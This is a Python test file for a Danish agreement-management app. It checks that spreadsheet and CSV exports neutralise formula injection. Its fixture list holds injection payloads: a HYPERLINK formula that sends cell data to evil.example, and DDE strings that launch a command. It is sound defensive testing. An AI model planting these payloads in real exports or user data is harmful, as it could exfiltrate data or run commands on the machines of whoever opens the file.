"""Exports a manager opens in a spreadsheet: no cell is ever evaluated as a formula."""

from __future__ import annotations

import csv
import io
import zipfile
from dataclasses import replace

from openpyxl import load_workbook

from aftaleflow.services.agreements.cases import NewAgreement, create_agreement
from aftaleflow.services.reading.exports import export
from tests.api.conftest import auth
from tests.factories import LOCAL_LILLEBAELT, new_agreement
from tests.web.conftest import log_in

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"klik")', "+45 1234 5678",
           "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"]


def _hostile_agreements(ctx) -> None:
    for title in HOSTILE:
        new_agreement(ctx, replace(LOCAL_LILLEBAELT, title=title))
    create_agreement(ctx, NewAgreement(
        title="Udgående teams", kind="lokal_aftale", origin="ssu_bestilling",
        region="syddanmark", origin_cluster="sundhedsklynge-lillebaelt",
        kle_number="29.30.08-P27-1-26", case_handler="=1+1"))


def assert_no_formula(data: bytes, *expected_texts: str) -> None:
    """openpyxl sees only text cells, and the sheet XML holds no formula element."""
    book = load_workbook(io.BytesIO(data))
    texts = set()
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{cell.coordinate} is a formula: {cell.value}"
                if isinstance(cell.value, str):
                    assert cell.data_type == "s"
                    texts.add(cell.value)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)
    for text in expected_texts:
        assert text in texts  # kept as the text it is, not mangled


def assert_csv_neutralised(data: bytes, *hostile: str) -> None:
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    cells = {c for row in rows for c in row}
    for text in hostile:
        assert "'" + text in cells


def test_formula_titles_are_text_in_xlsx_and_neutralised_in_csv(ctx) -> None:
    _hostile_agreements(ctx)
    for what in ("matrix", "agreements"):
        assert_no_formula(export(ctx, what, "xlsx"), *HOSTILE)
        assert_csv_neutralised(export(ctx, what, "csv"), *HOSTILE)
    assert_csv_neutralised(export(ctx, "agreements", "csv"), "=1+1")


def test_api_export_neutralises_formula_cells(client, world, ctx) -> None:
    _hostile_agreements(ctx)
    h = auth(world.tokens["leder"])
    xlsx = client.get("/exports/agreements?format=xlsx", headers=h)
    assert xlsx.status_code == 200
    assert_no_formula(xlsx.content, *HOSTILE, "=1+1")
    csv_response = client.get("/exports/matrix?format=csv", headers=h)
    assert_csv_neutralised(csv_response.content, *HOSTILE)


def test_dashboard_matrix_export_neutralises_formula_cells(web, demo_world, demo_engine) -> None:
    from aftaleflow.services.uow import ServiceContext
    from tests.web.conftest import web_clock

    _hostile_agreements(ServiceContext(engine=demo_engine, actor="test", clock=web_clock()))
    log_in(web, demo_world.tokens["leder"])
    assert_no_formula(web.get("/ui/matrix.xlsx").content, *HOSTILE)
    assert_csv_neutralised(web.get("/ui/matrix.csv").content, *HOSTILE)
